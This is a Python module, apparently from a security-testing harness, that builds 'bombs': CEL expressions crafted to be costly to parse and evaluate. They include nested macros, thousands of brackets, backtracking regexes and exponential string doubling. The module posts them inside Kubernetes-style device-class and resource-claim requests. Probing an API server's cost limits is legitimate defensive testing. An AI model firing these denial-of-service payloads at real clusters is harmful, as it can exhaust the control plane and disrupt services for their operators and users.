"""Expressions that are slow to parse, to check, to estimate or to compile: one class or claim is enough to send them."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from attack.bombs.building import CLAIMS, CLASSES, Bomb, send

LONGEST = 10 * 1024  # bytes of an expression that are accepted
TEN = "[0,1,2,3,4,5,6,7,8,9]"


def _nested(macro: str, depth: int, over: str = TEN) -> str:
    text = "true"
    for level in range(depth):
        text = f"{over}.{macro}(v{level}, {text})"
    return text


def expressions() -> dict[str, str]:
    """Return expressions by what is wrong with them."""
    found = {
        f"nested {macro} x {depth}": _nested(macro, depth)
        for macro in ("all", "exists", "exists_one")
        for depth in (3, 4, 5, 6, 7, 12, 100)
    }
    found |= {
        f"nested {macro} x {depth}": f"size({_nested(macro, depth).replace('true', '1 == 1')}) > 0"
        for macro in ("filter", "map")
        for depth in (3, 5)
    }
    found |= {
        "brackets": "(" * 5_000 + "true" + ")" * 5_000, "open brackets": "(" * 10_000, "lists": "[" * 5_000 + "]" * 5_000,
        "not": "!" * 10_000 + "true", "minus": "-" * 10_000 + "1 == 1", "members": "device" + ".a" * 5_000, "indices": "device" + "[0]" * 3_300,
        "or": " || ".join(["true"] * 1_250), "and": " && ".join(["false"] * 1_100), "plus": "+".join(["1"] * 5_000) + " == 1",
        "texts": "+".join(['"a"'] * 2_500) + ' == ""', "ternary": "true ? true : " * 700 + "true", "ternary in front": "(" * 900 + "true" + " ? true : false)" * 600,
        "list literal": "1 in [" + ",".join(["1"] * 5_000) + "]", "map literal": "size({" + ",".join(f"{n}:1" for n in range(1_400)) + "}) > 0",
        "one text": '"' + "a" * 10_000 + '" == ""', "escapes": '"' + "\\u0041" * 1_600 + '" == ""', "digits": "9" * 10_000 + " > 1",
        "regex repeat": '"a".matches("((a{1,100}){1,100}){1,100}")', "regex nested": '"' + "a" * 5_000 + '!".matches("^(a+)+$")',
        "regex alternatives": '"a".matches("' + "|".join(f"a{n}" for n in range(1_500)) + '")', "regex invalid": '"a".matches("' + "(" * 9_000 + '")',
        "comparison": " < ".join(["1"] * 2_500), "in chain": " in ".join(["[1]"] * 1_400), "comment": "// " + "a" * 10_000, "spaces": " " * 10_000,
        "newlines": "\n" * 10_000 + "true", "null bytes": "\x00" * 1_000, "unicode": "é" * 5_000, "bind": "cel.bind(a, " * 600 + "true" + ", true)" * 600,
        "has": "has(" * 1_500 + "device" + ")" * 1_500, "text doubling": _doubling(), "quantities": " || ".join(['quantity("1").isGreaterThan(quantity("1"))'] * 200),
        "versions": " || ".join(['semver("1.2.3").isGreaterThan(semver("1.2.3"))'] * 200), "attributes": " && ".join(['device.attributes["a.example.com"].b == 1'] * 220),
        "replace": '"' + "a" * 4_000 + '".replace("a", "' + "b" * 4_000 + '").size() > 0', "split": '"' + "a" * 9_000 + '".split("").all(x, true)',
        "join": TEN + '.map(x, "' + "a" * 9_000 + '").join("").size() > 0', "sort": "[" + ",".join(str(n) for n in range(2_400, 0, -1)) + "].isSorted()",
        "too long": "true || " * 20_000 + "true", "duration": 'duration("' + "1h" * 5_000 + '") > duration("1s")', "bytes": 'b"' + "\\xff" * 2_500 + '" == b""',
    }  # fmt: skip
    return found


def _doubling() -> str:
    text = '"aaaaaaaaaa"'
    for level in range(20):
        text = f"[{text}].map(v{level}, v{level} + v{level})[0]"
    return f"size({text}) > 0"


def _full(count: int, text: str) -> list[dict[str, Any]]:
    return [{"cel": {"expression": text.replace("7", str(number), 1)}} for number in range(count)]


def cel_bombs() -> Iterator[Bomb]:
    """Yield classes and claims with costly expressions."""
    for name, text in expressions().items():
        yield (
            f"cel {name}",
            send(
                "POST",
                CLASSES + "?dryRun=All",
                {"metadata": {"name": "bomb"}, "spec": {"selectors": [{"cel": {"expression": text}}]}},
            ),
        )
    wide = " || ".join(['device.attributes["a.example.com"].b7 == 1'] * 230)[:9_900].rpartition(" || ")[0]
    for name, text in {
        "attributes": wide, "or": " || ".join(["7 == 7"] * 900), "texts": "+".join(['"7"'] * 2_400) + ' != ""', "nested": _nested("all", 4).replace("7", "7"),
        "all chain": " && ".join([f"{TEN}.all(x, x > 7)"] * 220),
    }.items():  # fmt: skip
        selectors = _full(32, text)
        yield (
            f"class of 32 selectors: {name}",
            send(
                "POST",
                CLASSES,
                {"metadata": {"name": f"full-{name.replace(' ', '-')}"}, "spec": {"selectors": selectors}},
            ),
        )
        exactly = {"deviceClassName": "a", "selectors": selectors}
        requests = [
            {"name": f"r{number}", "exactly": {**exactly, "selectors": _full(8, text)}}
            for number in range(32)
        ]
        yield (
            f"claim of 32 selectors: {name}",
            send(
                "POST",
                CLAIMS + "?dryRun=All",
                {
                    "metadata": {"name": "full"},
                    "spec": {"devices": {"requests": [{"name": "r", "exactly": exactly}]}},
                },
            ),
        )
        yield (
            f"claim of 32 x 8 selectors: {name}",
            send(
                "POST",
                CLAIMS + "?dryRun=All",
                {"metadata": {"name": "full"}, "spec": {"devices": {"requests": requests}}},
            ),
        )
